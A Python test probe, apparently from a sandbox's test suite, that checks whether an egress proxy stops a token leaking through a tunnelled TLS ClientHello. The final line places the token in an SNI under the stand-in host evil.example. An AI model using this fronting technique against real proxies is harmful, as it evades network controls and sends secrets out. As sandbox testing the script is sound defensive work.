import json, os, sys

INP = json.loads(sys.stdin.read() or "{}")


def emit(outcome, detail):
    sys.stdout.write(json.dumps({"outcome": outcome, "detail": str(detail)[:2000]}) + "\n")
    sys.stdout.flush()
    os._exit(0)


def denied(detail):
    emit("denied", detail)


def escaped(detail):
    emit("escaped", detail)


def err(e):
    if isinstance(e, OSError) and e.errno:
        import errno
        return errno.errorcode.get(e.errno, str(e.errno))
    return "%s: %s" % (type(e).__name__, e)

def host_targets():
    ips = ["127.0.0.1"] + [ip for ip in INP.get("host_ips", []) if not ip.startswith("127.")]
    return ips

import socket

PROXY = ("127.0.0.1", 3128)


def need_proxy():
    """These probes test the network-grant mode: without the engine's proxy they test nothing."""
    p = os.environ.get("HTTP_PROXY")
    if p != "http://127.0.0.1:3128":
        emit("error", "HTTP_PROXY is %r, not the engine's proxy: the grant is not in effect" % p)
    try:
        socket.create_connection(PROXY, timeout=3).close()
    except OSError as e:
        emit("error", "HTTP_PROXY is set but 127.0.0.1:3128 is not reachable (%s): cannot tell a refusal "
             "from a broken network" % err(e))


def proxy_ask(req, after=None, timeout=20):
    """One raw request to the proxy: (status or None, head, body, reply). `after` is sent into an
    established CONNECT tunnel and `reply` is what came back through it."""
    s = socket.create_connection(PROXY, timeout=timeout)
    try:
        s.sendall(req)
        buf = b""
        while b"\r\n\r\n" not in buf and len(buf) < 65536:
            chunk = s.recv(4096)
            if not chunk:
                break
            buf += chunk
        head, _, body = buf.partition(b"\r\n\r\n")
        first = head.split(b"\r\n", 1)[0].split(b" ")
        status = int(first[1]) if len(first) > 1 and first[0].startswith(b"HTTP/") and first[1].isdigit() else None
        reply = b""
        s.settimeout(3)
        try:
            if status == 200 and after is not None and req.startswith(b"CONNECT "):
                s.sendall(after)
                reply = s.recv(4096)
            else:
                while len(body) < 65536:
                    chunk = s.recv(4096)
                    if not chunk:
                        break
                    body += chunk
        except OSError:
            pass
        return status, head.decode("latin-1"), body, reply
    finally:
        s.close()


def judge(label, res, refusals=(403,)):
    """'denied' (a refusal status with the proxy's X-SkillLite-Proxy: denied header), 'escaped' (a tunnel,
    a forwarded answer, or a 502/504 showing the proxy tried to connect), 'unresolved' (a 502 because
    the name does not resolve on this host: nothing was attempted), else 'error'."""
    status, head, body, reply = res
    line = head.split("\r\n", 1)[0]
    text = body.decode("utf-8", "replace").strip().replace("\n", " ")[:200]
    if status in refusals and "\r\nx-skilllite-proxy: denied" in head.lower():
        return "denied", "%s: %s (%s)" % (label, line, text)
    if status == 200 or b"SKILLLITE-HOST-REPLY" in body + reply:
        return "escaped", "%s: %r, the proxy connected (got %r)" % (label, line, (body + reply)[:80])
    if status in (502, 504):
        if "cannot resolve" in text:
            return "unresolved", "%s: %s (%s)" % (label, line, text)
        return "escaped", "%s: %s (%s): the proxy tried to connect" % (label, line, text)
    return "error", "%s: unexpected answer %r (%s)" % (label, line, text)


def ask(label, req, after=None, refusals=(403,)):
    try:
        return judge(label, proxy_ask(req, after), refusals)
    except OSError as e:
        return "error", "%s: talking to the proxy failed: %s" % (label, err(e))


def verdict(results, allow=("denied",)):
    """escaped if any request escaped; denied if every one is in `allow`; else error."""
    notes = "; ".join(n for _, n in results)
    if any(v == "escaped" for v, _ in results):
        escaped(notes)
    if results and all(v in allow for v, _ in results):
        denied(notes)
    emit("error", notes)

need_proxy()
import ssl
T, P = INP["token"], INP["tcp_port"]
hp = "localhost:%d" % P


def tunnel_then_hello(sni):
    """CONNECT to the granted target, then a TLS ClientHello naming `sni`. The runner's server
    is not TLS, so no handshake completes either way: what matters is whether the hello (and
    with it the token in the server name) reaches the server."""
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    try:
        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (hp, hp)).encode())
        head = b""
        while b"\r\n\r\n" not in head:
            chunk = s.recv(200)
            if not chunk:
                break
            head += chunk
        line = head.split(b"\r\n", 1)[0].decode("latin-1")
        if " 200 " not in line + " ":
            return "error", "CONNECT %s: %r (the grant should allow the tunnel)" % (hp, line)
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        s.settimeout(3)
        try:
            t = ctx.wrap_socket(s, server_hostname=sni)
            t.close()
            return "escaped", "TLS with SNI %s completed through the tunnel" % sni
        except (ssl.SSLEOFError, ssl.SSLZeroReturnError) as e:
            # closed without a byte of answer: the proxy refused the hello (the runner's server
            # check still catches it if the hello got through anyway)
            return "denied", "SNI %s: the tunnel was closed at the ClientHello (%s)" % (sni, e)
        except ssl.SSLError as e:
            # the server answered something that is not TLS: the hello reached it
            return "escaped", "SNI %s: the hello reached the server (%s)" % (sni, e)
        except OSError as e:
            return "denied", "SNI %s: tunnel closed before the hello got through (%s)" % (sni, err(e))
    finally:
        s.close()


# the fronted name carries the token, so the runner's server would see it if the hello got through
verdict([tunnel_then_hello("%s.evil.example" % T.lower())])
